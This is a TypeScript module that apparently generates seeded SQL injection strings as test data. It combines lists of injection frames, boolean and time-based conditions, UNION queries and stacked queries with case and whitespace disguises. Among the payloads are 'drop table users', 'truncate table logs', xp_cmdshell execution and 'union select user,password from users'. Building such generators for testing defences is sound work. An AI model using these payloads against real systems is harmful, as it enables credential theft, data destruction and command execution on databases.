import { seeded } from './benign-values.ts'

/** One way out of the query's value: what the attacker writes before and behind the payload. */
interface Frame {
  readonly open: string
  readonly close: string
}

const FRAMES: readonly Frame[] = [
  { open: '1', close: '' },
  { open: '-1', close: ' -- ' },
  { open: '42', close: '#' },
  { open: '7', close: '/*' },
  { open: '1)', close: ' and (1=1' },
  { open: '1))', close: '-- -' },
  { open: "x'", close: " and 'a'='a" },
  { open: "'", close: '-- ' },
  { open: "admin'", close: '#' },
  { open: "x')", close: " and ('a'='a" },
  { open: "1%'", close: " and '%'='" },
  { open: 'x"', close: ' and "a"="a' },
  { open: '"', close: '-- -' },
  { open: 'x")', close: '/*' },
  { open: 'id', close: '' },
  { open: 'null', close: '--' },
  { open: '@x', close: '-- ' },
  { open: '1.5e3', close: '' },
  { open: '0x41', close: '' },
]

const CONDITIONS = [
  'or 1=1',
  'and 1=2',
  'OR 2>1',
  'or 3 between 1 and 5',
  'and 1 in (1,2)',
  "or 'a' like 'a'",
  'or not 1=2',
  'or 1 is not null',
  'or(1)=(1)',
  '|| 1=1',
  '&& 1=1',
  'or length(user())>1',
  'and ascii(substring(user(),1,1))>64',
  'or exists(select 1)',
  'or sleep(5)=0',
  'xor 1=2',
  'or 1 rlike 1',
  'or 5 div 1=5',
  'and (select 1)=1',
  'or 1<>2',
  'or pg_sleep(5) is null',
  "or md5('a')=md5('a')",
  'and if(1=1,sleep(5),0)',
  'or benchmark(1000000,md5(1))',
  'and extractvalue(1,concat(0x7e,version()))',
  'having 1=1',
  'group by 1 having 1=1',
  'or 1=1 limit 1,1',
]
const QUERIES = [
  'union select 1,2,3',
  'UNION ALL SELECT null,null',
  'union select user,password from users',
  'union(select 1)',
  'union distinct select @@version',
  'uNiOn sElEcT table_name from information_schema.tables',
  'union select * from users',
  'order by 3',
  'group by 2',
  'limit 1,1',
  "into outfile '/tmp/x'",
  'procedure analyse(1,1)',
]
const STACKED = [
  '; drop table users',
  '; select pg_sleep(5)',
  "; waitfor delay '0:0:5'",
  "; exec xp_cmdshell 'dir'",
  '; insert into users values (1)',
  '; update users set a=1',
  '; delete from users',
  '; shutdown',
  '; declare @a int',
  '; truncate table logs',
  '; create table t(a int)',
]
const WHOLE = [
  "'+'",
  "'||'",
  "' or '",
  "'='",
  "'-'",
  "'^'1",
  "' or 1-- ",
  "'--",
  "'#",
  "'/*",
  "' or ''='",
  '" or ""="',
  "'*'",
  "'<'1",
  'select * from users',
  'select password from users where id=1',
  '(select 1)',
  '1 and (select sleep(5))',
  '(select(0)from(select(sleep(5)))v)',
  'if(now()=sysdate(),sleep(5),0)',
  '1 or sleep(5)#',
  "'xor(if(now()=sysdate(),sleep(5),0))or'",
  'case when 1=1 then 1 else 0 end',
  '1;select 1',
  '-1 union select 1',
  'ascii(substr(user(),1,1))',
  '1 and ord(mid(version(),1,1))>1',
  "' and updatexml(1,concat(0x7e,user()),1) and '",
  'concat(char(58),version())',
  '1 procedure analyse()',
  "' || (select '') || '",
  "admin' or '1'='1'/*",
  "1' order by 5-- -",
  "') or true-- ",
  "' or 1 or '",
  '1 or true',
  "'; --",
  "x' and email is null; --",
  "x' and 1=(select count(*) from tabname); --",
  "' group by users.id having 1=1--",
]

const BLANKS = [
  ' ',
  ' ',
  ' ',
  '  ',
  '\t',
  '\n',
  '/**/',
  '%0b'.replace('%0b', '\u000b'),
  '\u00a0',
  ' /*x*/ ',
  '+'.replace('+', ' '),
]

/** Gives `count` injections: frames, payloads and disguises combined by a seed. */
export function sqliAttacks(seed: number, count: number): string[] {
  const random = seeded(seed)
  const pick = <T>(list: readonly T[]): T => {
    const item = list[Math.floor(random() * list.length)]
    if (item === undefined) throw new Error('empty list')
    return item
  }
  const cased = (text: string): string =>
    random() < 0.7
      ? text
      : [...text].map((c) => (random() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join('')
  const spaced = (text: string): string => {
    if (random() < 0.6) return text
    const blank = pick(BLANKS)
    return text.replaceAll(' ', blank)
  }
  return Array.from({ length: count }, () => {
    if (random() < 0.12) return cased(pick(WHOLE))
    const frame = pick(FRAMES)
    const kind = random()
    if (kind < 0.5) return frame.open + spaced(cased(` ${pick(CONDITIONS)}`)) + frame.close
    if (kind < 0.85) return frame.open + spaced(cased(` ${pick(QUERIES)}`)) + pick(['', '-- ', '#', '/*'])
    return frame.open + cased(pick(STACKED)) + pick(['', '-- ', '#', ';'])
  })
}
